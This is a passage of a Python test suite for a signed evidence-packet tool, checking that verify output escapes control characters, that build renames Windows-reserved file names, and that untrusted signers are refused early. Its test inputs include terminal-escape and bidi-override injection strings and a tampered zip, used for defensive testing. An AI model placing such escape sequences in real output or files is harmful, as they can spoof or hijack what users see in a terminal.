    outputs["verify"] = invoke("packet", "verify", path).stdout
    for where, text in outputs.items():
        assert not any(c in text for c in "\x1b\r\x07\u202e\u2066\u2028"), where
    terminal, markdown = outputs[()], outputs[("--markdown",)]
    assert "ok\\x1b[2K\\x0d  signer    ed25519:0000000000000000  (pinned via --trusted-key)" in terminal
    assert "case\\u202eid: CS-1\\x1b[1A\\u2066" in terminal
    assert "        line one\\x1b[31m\n        line two\\u202e" in terminal  # detail keeps its lines, indented
    assert "a\\u2028b" in terminal and "note\\x1b]0;title\\x07" in terminal
    assert "CS-1\\x1b\\[1A\\u2066" in markdown or "CS-1\\x1b[1A\\u2066" in markdown
    assert "(not pinned" in terminal


def test_error_messages_quote_packet_strings_visibly(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                     keys: dict[str, Any]) -> None:
    doc = json.loads(genuine["manifest.sig"])
    doc["payloadType"] = "\x1b[2Kapplication/\u202ejson"
    data = resign(genuine, keys, envelope=json.dumps(doc).encode())
    path = tmp_path / "attack.zip"
    path.write_bytes(data)
    result = invoke("packet", "verify", path)
    assert_one_error_line(result, B + r"manifest.sig in packet '.*' has payloadType '\\x1b\[2Kapplication/\\u202ejson'")
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr


def test_build_renames_attachments_windows_cannot_hold(invoke, tmp_path: Path, keys: dict[str, Any]) -> None:
    """build never writes a packet that verify would refuse for its names."""
    folder = tmp_path / "in"
    folder.mkdir()
    names = ["CON.txt", "a:b.txt", "trailing."]
    for name in names:
        (folder / name).write_text("x\n")
    results = tmp_path / "r.json"
    results.write_text('{"results": []}')
    packet = tmp_path / "p.zip"
    args = [a for name in names for a in ("--attach", folder / name)]
    result = invoke("packet", "build", "--results", results, *args, "--sign-key", keys["signing"]["private_path"],
                    "-o", packet)
    assert result.exit_code == 0, result.stderr
    members = read_zip(packet.read_bytes())
    assert {"evidence/CON_.txt", "evidence/a_b.txt", "evidence/trailing_"} <= set(members)
    assert invoke("packet", "verify", packet).exit_code == 0


def test_untrusted_packet_is_refused_before_its_members_are_inflated(invoke, tmp_path: Path,
                                                                      genuine: dict[str, bytes], config: Path) -> None:
    """A corrupt evidence member would be DK412 once inflated; an untrusted signer is refused first."""
    other = generate_keys(tmp_path / "other", comment="o")
    (config / "trusted_keys").write_text(other["signing"]["public_key"] + "\n")
    entries = entries_of(genuine)
    data = bytearray(zip_bytes(entries))
    at = data.index(b"evidence/notes.txt") + len(b"evidence/notes.txt")  # the local header's name, then data
    data[at] ^= 0xFF
    refused(invoke, tmp_path, bytes(data), r"DK408.*untrusted signer")
    (config / "trusted_keys").unlink()
    refused(invoke, tmp_path, bytes(data), r"DK41[26].*evidence/notes.txt")
